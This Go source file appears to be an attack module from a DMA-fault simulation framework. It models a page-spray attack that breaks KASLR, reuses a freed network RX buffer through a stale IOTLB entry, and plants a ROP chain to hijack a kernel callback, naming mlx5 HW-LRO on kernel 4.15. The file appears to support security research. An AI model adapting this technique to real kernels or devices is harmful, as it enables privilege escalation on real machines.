package attacks

import (
	"fmt"

	"dmafault/internal/core"
	"dmafault/internal/layout"
	"dmafault/internal/mem"
	"dmafault/internal/netstack"
)

// Page spray ("Take a Step Further"). The previous attacks corrupt memory
// the device was *given*; this one corrupts memory the kernel reclaimed.
// A delivered packet releases its sk_buff, which frees the RX buffer's page
// block back to the buddy allocator — but under deferred invalidation the
// device still holds a stale IOTLB entry for the old IOVA. The attacker then
// provokes an allocation burst (the spray) that lands fresh kernel objects
// on the freed frames; thanks to the buddy freelists' LIFO discipline the
// very next same-order allocation reuses the exact block. The device writes
// its pivot + ROP chain through the stale translation, corrupting the new
// object's callback slot, and the kernel's ordinary use of that object
// dispatches the hijacked pointer.
//
// The natural victim is the mlx5 HW-LRO datapath (kernel 4.15): its RX
// buffers are order-4 compound allocations that go straight back to the
// buddy freelist on release. Frag-backed drivers (2 KiB buffers) usually
// survive the spray — the page_frag region holds a reference — which is
// exactly the coverage split a fuzzer can discover.

// SprayConfig sizes the spray pass.
type SprayConfig struct {
	// Blocks is how many allocations the burst performs (<=0: 8).
	Blocks int
	// Order is the buddy order of each sprayed block; <0 means "match the
	// victim buffer's own order" (the exact-overlay strategy).
	Order int
}

// sprayObjCallbackOff is the callback slot inside the sprayed kernel object,
// mirroring the buggy command block's layout so the same pivot/chain
// geometry applies (the kernel passes the object's address in %rdi).
const sprayObjCallbackOff = cmdCallbackOff

// RunPageSpray executes the spray-assisted injection on a booted system.
func RunPageSpray(sys *core.System, nic *netstack.NIC, cfg SprayConfig) *Result {
	r := newResult(fmt.Sprintf("page-spray (driver %s)", nic.Model.Name))
	// Attribute acquisition: the usual leak scan breaks KASLR (text base for
	// gadget addresses, direct-map base to reason about frames).
	atk, _, err := breakKASLR(sys, nic, true)
	if err != nil {
		return r.fail(err)
	}
	r.logf("KASLR broken: text + page_offset_base recovered")

	// Victim selection: prefer a compound-page (HW LRO) descriptor — its
	// release path frees straight to the buddy allocator.
	ring := nic.RXRing()
	slot := 0
	for i, d := range ring {
		if netstack.TruesizeFor(d.Cap) > mem.FragRegionBytes {
			slot = i
			break
		}
	}
	d := ring[slot]
	truesize := netstack.TruesizeFor(d.Cap)
	paged := truesize > mem.FragRegionBytes
	bufOrder := 0
	if paged {
		for (uint64(layout.PageSize) << bufOrder) < truesize {
			bufOrder++
		}
	}
	bufPFN, err := sys.Layout.KVAToPFN(d.Data)
	if err != nil {
		return r.fail(err)
	}
	r.logf("victim RX slot %d: %d-byte buffer at PFN %d (order %d, paged=%v)",
		slot, truesize, bufPFN, bufOrder, paged)

	// Prime the IOTLB for the buffer's page while it is still mapped — a
	// real NIC writing the packet payload does this naturally.
	if err := sys.Bus.Write(atk.Dev, d.IOVA, []byte("spray")); err != nil {
		return r.fail(err)
	}

	// Deliver the packet. With no delivery hook installed the stack consumes
	// and releases the sk_buff, freeing the ring buffer: compound pages go
	// back to the buddy freelists (put_page), frag buffers merely drop a
	// region reference. Under deferred invalidation the unmap leaves the
	// primed IOTLB entry stale rather than gone.
	if err := nic.ReceiveOn(slot, 5, netstack.ProtoUDP, 1); err != nil {
		return r.fail(err)
	}
	r.logf("packet delivered and released: RX buffer freed while device holds its IOVA")

	// The spray: an attacker-provoked allocation burst (think sendmsg
	// buffers) that tries to land kernel objects on the freed frames.
	order := cfg.Order
	switch {
	case order < 0:
		order = 0
	case order == 0:
		order = bufOrder // frag-backed buffers leave this at order 0
	}
	blocks := cfg.Blocks
	if blocks <= 0 {
		blocks = 8
	}
	set, sprayErr := sys.Mem.Pages.Spray(nic.CPU, mem.SprayPattern{Blocks: blocks, Order: uint(order)})
	defer sys.Mem.Pages.ReleaseSpray(nic.CPU, set)
	if sprayErr != nil && len(set.PFNs) == 0 {
		return r.fail(sprayErr)
	}
	r.logf("sprayed %d order-%d block(s) over the hole", len(set.PFNs), order)

	// The kernel initializes each sprayed object: a legitimate callback in
	// the slot the device is about to contest.
	legit := benignCallback(sys)
	for _, pfn := range set.PFNs {
		obj := sys.Layout.PFNToKVA(pfn)
		if err := sys.Mem.WriteU64(obj+sprayObjCallbackOff, uint64(legit)); err != nil {
			return r.fail(err)
		}
	}

	idx, within := set.Contains(bufPFN)
	hit := within && set.PFNs[idx] == bufPFN // head overlay: object base == old buffer base
	r.Detail["spray_blocks"] = fmt.Sprintf("%d", len(set.PFNs))
	r.Detail["spray_order"] = fmt.Sprintf("%d", order)

	// The object the kernel will "use" (complete) below: the reused block on
	// a hit, the first sprayed block otherwise.
	victim := set.PFNs[0]
	if hit {
		victim = set.PFNs[idx]
	}
	objKVA := sys.Layout.PFNToKVA(victim)

	if hit {
		r.Detail["reuse"] = "head"
		r.logf("LIFO reuse: sprayed block %d landed exactly on freed PFN %d", idx, bufPFN)
		// The device's half of the race: write the chain and pivot through
		// the stale translation of the *old* buffer IOVA.
		// breakKASLR recovered the text base, so only the DMA writes can fail.
		staleBefore := sys.IOMMU.Stats().StaleHits
		werr := plantPivotChain(atk, d.IOVA, sprayObjCallbackOff)
		staleHits := sys.IOMMU.Stats().StaleHits - staleBefore
		r.Detail["stale_hits"] = fmt.Sprintf("%d", staleHits)
		if werr != nil {
			r.Detail["stale"] = "blocked"
			r.logf("stale-IOVA write blocked by the IOMMU: %v", werr)
		} else {
			r.Detail["stale"] = "written"
			if staleHits > 0 {
				r.Detail["window_path"] = WindowStaleIOTLB.String()
			}
			r.logf("pivot + chain written into the sprayed object through the stale IOTLB entry")
		}
	} else {
		r.Detail["reuse"] = "miss"
		r.logf("spray missed: freed frames not reused by the burst (frag region held, or hot-cache detour)")
	}

	// The kernel's ordinary use of the sprayed object: load its callback and
	// dispatch with the object's own address — sock_wfree if the device lost
	// the race or was blocked, the pivot if it won.
	before := sys.Kernel.Escalations
	cbv, err := sys.Mem.ReadU64(objKVA + sprayObjCallbackOff)
	if err != nil {
		return r.fail(err)
	}
	if err := sys.Kernel.InvokeCallback(layout.Addr(cbv), uint64(objKVA)); err != nil {
		r.logf("callback dispatch faulted: %v", err)
	}
	r.Escalations = sys.Kernel.Escalations - before
	r.Success = r.Escalations > 0
	if r.Success {
		r.logf("sprayed object completed → hijacked callback → %d escalation(s)", r.Escalations)
	} else {
		r.logf("sprayed object completed benignly: no escalation")
	}
	return r
}
